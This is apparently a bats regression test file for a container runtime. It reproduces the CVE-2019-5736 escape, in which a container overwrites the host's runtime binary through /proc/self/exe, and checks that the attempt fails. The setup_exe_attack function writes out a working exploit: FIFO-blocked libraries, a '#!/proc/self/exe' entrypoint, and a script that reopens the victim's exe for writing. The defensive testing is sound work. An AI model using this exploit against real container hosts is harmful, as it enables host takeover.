#!/usr/bin/env bats
# Attacks by a hostile container (its rootfs, its config, its processes) run
# for real against the runtime; the host's state is compared before and
# after.  Each test says which attack it is and what must stop it.

load helpers

setup() {
	setup_bundle
	REAL_RUNTIME="$RUNTIME"
	host_snapshot
}

teardown() {
	# The attack may have damaged the copy under test: clean up with the
	# real binary.
	RUNTIME="$REAL_RUNTIME"
	teardown_bundle
}

# --- CVE-2019-5736: overwriting the runtime through /proc/self/exe ----------

# A private copy of the runtime as $RUNTIME, so a successful attack damages
# only the copy.  Its sha256 goes to $TEST_DIR/runtime.sha256.
use_runtime_copy() {
	cp "$REAL_RUNTIME" "$TEST_DIR/cell-under-attack"
	chmod 0755 "$TEST_DIR/cell-under-attack"
	RUNTIME="$TEST_DIR/cell-under-attack"
	sha256sum "$RUNTIME" | cut -d' ' -f1 >"$TEST_DIR/runtime.sha256"
}

# The image a real attacker would ship: glibc's loader (so the host's
# runtime can start inside), every library the runtime needs replaced by a
# FIFO (so the loader blocks there and the process stays alive as long as
# the attacker wants), /entry.sh whose interpreter is /proc/self/exe, and
# /attack.sh: find the process running /entry.sh, open its /proc/PID/exe,
# kill it, wait until it is gone (no more ETXTBSY), reopen the fd for
# writing and write.  Results in /out/log.
setup_exe_attack() {
	local r="$BUNDLE/rootfs" lib
	mkdir -p "$r/lib64" "$r/lib/x86_64-linux-gnu"
	cp -L /lib64/ld-linux-x86-64.so.2 "$r/lib64/"
	cp -L /lib/x86_64-linux-gnu/libc.so.6 "$r/lib/x86_64-linux-gnu/"
	for lib in $(ldd "$RUNTIME" | awk '$2 == "=>" { print $1 }'); do
		case "$lib" in libc.so.*) continue ;; esac
		mkfifo "$r/lib/x86_64-linux-gnu/$lib"
	done
	printf '#!/proc/self/exe\n' >"$r/entry.sh"
	chmod 0755 "$r/entry.sh"
	cat >"$r/attack.sh" <<-'EOS'
		#!/bin/sh
		log() { echo "$*" >>/out/log; }
		pid=
		n=0
		while [ -z "$pid" ] && [ $n -lt 1000 ]; do
			for d in /proc/[0-9]*; do
				case "$(tr '\0' ' ' <$d/cmdline 2>/dev/null)" in
				"/proc/self/exe /entry.sh"*) pid=${d#/proc/} ;;
				esac
			done
			n=$((n + 1))
			sleep 0.01
		done
		[ -n "$pid" ] || { log "no victim"; echo done >/out/done; exit 1; }
		log "victim $pid exe $(readlink /proc/$pid/exe)"
		if ! exec 5</proc/$pid/exe; then
			log "open exe refused"; echo done >/out/done; exit 0
		fi
		( exec 6>>/proc/self/fd/5 ) 2>>/out/log && log "write-open while running"
		kill -9 $pid
		while [ -e /proc/$pid ] && ! grep -q '^State:.*Z' /proc/$pid/status 2>/dev/null; do
			sleep 0.01
		done
		sleep 0.1
		if ( exec 6>>/proc/self/fd/5 && echo '#!/bin/sh pwned' >&6 ) 2>>/out/log; then
			log "WROTE through /proc/self/fd/5"
		fi
		if ( exec 6>/proc/self/fd/5 && echo '#!/bin/sh pwned' >&6 ) 2>>/out/log; then
			log "TRUNCATED and WROTE through /proc/self/fd/5"
		fi
		echo done >/out/done
	EOS
	chmod 0755 "$r/attack.sh"
	setup_outdir
	# What docker gives a root container: its default capabilities,
	# with CAP_DAC_OVERRIDE.
	local caps='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_FSETID","CAP_FOWNER",
		"CAP_MKNOD","CAP_NET_RAW","CAP_SETGID","CAP_SETUID","CAP_SETFCAP",
		"CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_SYS_CHROOT","CAP_KILL",
		"CAP_AUDIT_WRITE"]'
	update_config ".process.capabilities.bounding = $caps
		| .process.capabilities.effective = $caps
		| .process.capabilities.permitted = $caps
		| .root.readonly = false
		| del(.linux.namespaces[] | select(.type == \"user\"))"
}

assert_runtime_intact() {
	wait_for_file "$OUT/done" 200 || true
	echo "attack log:"
	cat "$OUT/log" || true
	[ "$(sha256sum "$RUNTIME" | cut -d' ' -f1)" = "$(cat "$TEST_DIR/runtime.sha256")" ] ||
		fail "the host's runtime binary was overwritten by the container"
	! grep -q WROTE "$OUT/log"
	# The attack really ran: it found the process and opened its exe.
	grep -q '^victim .* exe /memfd:' "$OUT/log"
}

@test "CVE-2019-5736: an entrypoint '#!/proc/self/exe' cannot overwrite the runtime (init)" {
	use_runtime_copy
	setup_exe_attack
	set_args /entry.sh
	# With the host's pid namespace (docker --pid=host) the init is not
	# pid 1: killing it leaves the attacker alive to write.
	remove_namespace pid
	create_container
	runtime_detached exec -d "$CID" /attack.sh
	[ "$status" -eq 0 ] || fail "exec attacker: $output"
	runtime_detached start "$CID"
	[ "$status" -eq 0 ] || fail "start: $output"
	assert_runtime_intact
}

@test "CVE-2019-5736: 'cell exec' of a '#!/proc/self/exe' script cannot overwrite the runtime" {
	use_runtime_copy
	setup_exe_attack
	start_container
	runtime_detached exec -d "$CID" /attack.sh
	[ "$status" -eq 0 ] || fail "exec attacker: $output"
	runtime_detached exec "$CID" /entry.sh
	assert_runtime_intact
}
